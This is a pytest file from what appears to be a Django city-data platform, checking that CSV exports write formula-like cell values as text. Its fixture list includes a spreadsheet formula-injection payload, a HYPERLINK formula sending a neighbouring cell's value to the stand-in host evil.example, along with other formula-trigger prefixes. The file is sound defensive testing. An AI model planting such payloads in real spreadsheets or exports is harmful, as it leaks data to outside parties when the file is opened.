"""Every CSV the platform writes is safe to open in a spreadsheet: a cell that a spreadsheet
would run as a formula is written as text."""

import csv
import io

import pytest

from cities.enums import CityStatus
from tests.factories import CityFactory

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Dakar")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tindented",
    "\rcarriage",
]


class TestCsvExportsDoNotRunFormulas:
    @pytest.mark.parametrize("name", DANGEROUS)
    def test_a_city_name_that_is_a_formula_arrives_as_text(self, client, admin_user, name):
        CityFactory(slug="tricky", name_en=name, status=CityStatus.PARTICIPANT)
        client.force_login(admin_user)

        rows = list(csv.reader(io.StringIO(client.get("/en/cities/export.csv").content.decode())))

        assert rows[1][0] == "'" + name

    def test_ordinary_values_are_unchanged(self, client, admin_user):
        CityFactory(slug="plain", name_en="Saint-Louis", population=250_000)
        client.force_login(admin_user)

        rows = list(csv.reader(io.StringIO(client.get("/en/cities/export.csv").content.decode())))

        assert (rows[1][0], rows[1][4]) == ("Saint-Louis", "250000")


def test_every_csv_is_written_through_the_safe_writer(settings):
    from pathlib import Path

    from tests.test_architecture import ALLOWED

    base = Path(settings.BASE_DIR)
    offenders = [
        path.relative_to(base).as_posix()
        for package in ALLOWED
        for path in (base / package).rglob("*.py")
        if path.name != "spreadsheets.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]

    assert offenders == []
